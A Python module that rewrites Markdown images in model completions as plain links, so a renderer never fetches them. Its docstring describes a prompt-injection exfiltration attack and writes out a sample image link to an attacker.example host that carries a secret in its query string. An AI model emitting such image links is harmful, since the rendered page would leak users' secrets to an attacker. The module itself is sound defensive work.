"""Completion Markdown made safe to render: images become links, never fetched.

A completion is whatever the model wrote, and a prompt-injected model writes
``![x](https://attacker.example/leak.png?q=<secret>)``: rendered, the browser fetches it and
the secret leaves (even from the hidden Markdown view). So every image becomes a link,
``[image: alt](url)``, which the reader may follow but nothing loads by itself; ``data:``
images stay (they load nothing). Code is rewritten too: telling a code span from text
exactly as the renderer does is where a filter gets bypassed (an escaped backtick, a fence
that is not one), and an image shown as a link inside code is a small price.
``assets/tokentail.js`` applies the same rule to the Markdown it re-renders while a request
streams; the CSP's ``img-src 'self' data:`` is the second line. Raw HTML is never rendered
(``dcc.Markdown`` escapes it).
"""

from __future__ import annotations

import re

# Backslashes, exclamation marks, "[": an image starts at the last "!" unless a lone "!" is
# escaped (an odd run of backslashes). The "!"s before it stay, the last of them escaped, so
# that what is left never reads as "![" again ("!![x](u)" must not become "![image: x](u)").
_IMAGE = re.compile(r"(\\*)(!+)\[")
# A data: image kept as is: plain alt text (no brackets, so no other image or link can hide
# its destination behind it) and nothing but the data: URL as its destination.
_DATA_IMAGE = re.compile(r"!\[[^\[\]\n]*\]\(\s*<?data:[^\s()<>]*>?\s*\)")


def safe_markdown(text: str | None) -> str:
    """``text`` with every image but a plain ``data:`` one turned into a link."""
    if not text or "![" not in text:
        return text or ""

    def link(m: re.Match[str]) -> str:
        slashes, bangs = m.group(1), m.group(2)
        escaped = len(slashes) % 2 == 1
        if (escaped and len(bangs) == 1) or _DATA_IMAGE.match(text, m.end(2) - 1):
            return m.group(0)  # an escaped "!" (a link already), or a data: image (loads nothing)
        keep = len(bangs) - 1
        if keep == 0:
            return slashes + "[image: "
        if keep == 1 and escaped:
            return slashes + "![image: "
        return slashes + "!" * (keep - 1) + "\\![image: "

    return _IMAGE.sub(link, text)
